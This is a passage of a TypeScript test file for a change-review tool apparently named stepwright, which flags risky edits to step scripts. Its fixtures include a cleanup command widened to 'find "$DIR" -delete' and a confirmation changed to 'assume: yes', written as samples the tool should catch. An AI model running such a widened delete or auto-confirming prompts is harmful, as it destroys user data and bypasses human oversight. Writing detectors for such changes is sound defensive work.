  assert.ok(alarms.length <= 2, alarms.join('\n'));
});

/** Codes that no other test has a case for. */
const NAMED: readonly (readonly [code: string, edit: StepEdit])[] = [
  ['commands-altered', run('', 'find "$DIR" -name "*.tmp" -delete', 'find "$DIR" -delete')],
  [
    'choice-changed',
    step('', `${running('ls /a')}when: {MODE: fast}\n`, `${running('ls /a')}when: {MODE: [fast, slow]}\n`),
  ],
  ['check-stricter', step('', asserting('test -e /a'), asserting('test -e /a\ntest -s /b'))],
  [
    'confirmation-assumed',
    step('', 'confirm: {question: Is it done?}', 'confirm: {question: Is it done?, assume: yes}'),
  ],
  [
    'discards-changed',
    step(
      '',
      running('touch /data/a', 'undo: {run: rm /data/a, discards: all that was written since}\n'),
      running('touch /data/a', 'undo: {run: rm /data/a}\n'),
    ),
  ],
];

for (const [code, edit] of NAMED) {
  test(`named: ${code}`, () => {
    assert.ok(
      findingsOf(edit).some((one) => one.code === code),
      codesOf(edit),
    );
  });
}

test('a function of the library is looked at less only where another version of stepwright made it', () => {
  const change = {
    name: 'keep',
    old: 'keep() { :; }',
    new: 'keep() { true; }',
    places: [[], []],
    steps: [],
  } as const;
  const codeOf = (same: boolean, sameGenerator: boolean): unknown =>
    ofFunction({ ...change, same }, sameGenerator)[0]?.code;
  assert.is(codeOf(false, false), 'library-changed');
  assert.is(codeOf(false, true), 'function-changed');
  assert.is(codeOf(true, true), 'function-reworded');
});

test.run();
